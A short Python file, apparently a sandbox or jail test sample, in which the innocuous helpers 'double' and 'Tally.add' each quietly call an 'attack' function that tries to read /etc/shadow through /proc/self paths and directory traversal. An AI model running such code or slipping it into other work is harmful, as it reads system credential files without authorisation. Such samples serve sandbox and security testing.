import os


def attack():
    for name in ("cwd", "root", *(f"fd/{fd}" for fd in range(1024))):
        for path in ("../etc/shadow", "../../../../../../etc/shadow", "etc/shadow"):
            try:
                with open(f"/proc/self/{name}/{path}") as file:
                    return file.read()
            except OSError as error:
                last = error
    raise last


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
